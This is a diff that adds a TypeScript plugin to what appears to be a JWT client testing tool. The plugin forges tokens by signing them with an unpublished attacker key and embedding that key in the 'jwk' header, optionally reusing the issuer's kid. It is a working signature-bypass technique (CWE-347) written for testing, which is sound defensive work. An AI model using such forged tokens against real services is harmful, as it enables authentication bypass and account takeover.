@@ -0,0 +1,80 @@
+/**
+ * Embedded JWK
+ *
+ * Signs the token with an attacker key Loki never publishes in its JWKS
+ * and embeds that key's public half in the protected header as `jwk`. The
+ * token verifies perfectly against the key it carries, so a library that
+ * honours the `jwk` header accepts it; a client that only trusts the
+ * issuer's JWKS finds no key with the token's kid and rejects it.
+ *
+ * With `kidCollision`, the header and the embedded key both carry the kid
+ * of the key Loki advertises, so a client that looks the kid up but then
+ * verifies with whichever key is at hand (the embedded one) is fooled too.
+ *
+ * Config:
+ * - kidCollision: reuse the advertised key's kid (sessions may set it with
+ *   `embeddedJwkKidCollision`)
+ *
+ * Spec: RFC 7515 Section 4.1.3 - the jwk header is only usable if the key is otherwise trusted
+ * CWE-347: Improper Verification of Cryptographic Signature
+ */
+
+import { attackerKey } from "../../core/attacker-keys.js";
+import { SUPPORTED_SIGNING_ALGORITHMS, type SigningAlgorithm } from "../../core/key-manager.js";
+import type { MischiefPlugin } from "../types.js";
+
+export const embeddedJwk: MischiefPlugin = {
+	id: "embedded-jwk",
+	name: "Embedded JWK",
+	severity: "critical",
+	phase: "token-signing",
+
+	spec: {
+		rfc: "RFC 7515 Section 4.1.3",
+		cwe: "CWE-347",
+		description: "A key embedded in the jwk header MUST NOT be trusted just because it's there",
+	},
+
+	description: "Signs with an unpublished key and embeds its public JWK in the header",
+
+	options: [
+		{
+			name: "kidCollision",
+			type: "boolean",
+			default: false,
+			description: "Reuse the advertised key's kid (session shorthand: embeddedJwkKidCollision)",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+
+		const alg = ctx.token.header.alg;
+		if (!SUPPORTED_SIGNING_ALGORITHMS.includes(alg as SigningAlgorithm)) {
+			return { applied: false, mutation: `Not an asymmetric signature: ${alg}`, evidence: {} };
+		}
+
+		const advertisedKid = ctx.token.header.kid;
+		const kidCollision = ctx.config.kidCollision === true && typeof advertisedKid === "string";
+		const attacker = await attackerKey(alg as SigningAlgorithm);
+		const kid = kidCollision ? (advertisedKid as string) : attacker.kid;
+
+		ctx.token.header.kid = kid;
+		ctx.token.header.jwk = { ...attacker.publicJwk, kid };
+		await ctx.token.sign(alg, attacker.pem);
+
+		return {
+			applied: true,
+			mutation: kidCollision
+				? `Embedded throwaway key ${attacker.kid} under advertised kid ${kid}`
+				: `Embedded and signed with throwaway key ${attacker.kid}`,
+			evidence: {
+				kid,
+				attackerKid: attacker.kid,
+				kidCollision,
+			},
+		};
+	},
+};